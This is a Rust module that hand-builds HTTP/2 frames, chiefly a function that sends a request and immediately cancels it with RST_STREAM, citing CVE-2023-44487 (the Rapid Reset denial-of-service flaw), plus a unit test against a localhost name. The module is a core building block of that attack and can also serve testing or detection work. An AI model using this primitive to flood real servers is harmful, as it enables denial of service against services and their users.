//! The few frames of HTTP/2 that a client needs to ask and to take it back at once (RFC 9113).

/// What a connection begins with: the preface and empty settings (section 3.4).
pub(super) fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// A request and, in the same breath, that it is not wanted any more (CVE-2023-44487).
pub(super) fn request_and_reset(stream: u32, host: &str) -> Vec<u8> {
    let mut bytes = frame(HEADERS, END_STREAM | END_HEADERS, stream, &fields(host));
    bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
    bytes
}

/// That the server's settings are taken note of (section 6.5.3).
pub(super) fn acknowledgement() -> Vec<u8> {
    frame(SETTINGS, ACK, 0, &[])
}

/// `GET https://HOST/page`, from the static table and without Huffman's code (RFC 7541).
fn fields(host: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87, 0x04, 5];
    block.extend(b"/page");
    block.extend([0x01, u8::try_from(host.len()).unwrap_or(0)]);
    block.extend(host.as_bytes());
    block
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;

const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The error code for what is not wanted any more.
const CANCEL: u32 = 8;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_request_and_its_reset_name_the_same_stream() {
        let bytes = request_and_reset(3, "a.localhost");
        let length = 4 + 5 + 2 + 11;
        assert_eq!(bytes[..9], [0, 0, length, HEADERS, 5, 0, 0, 0, 3]);
        assert_eq!(
            bytes[9 + length as usize..],
            [0, 0, 4, RST_STREAM, 0, 0, 0, 0, 3, 0, 0, 0, 8]
        );
    }
}
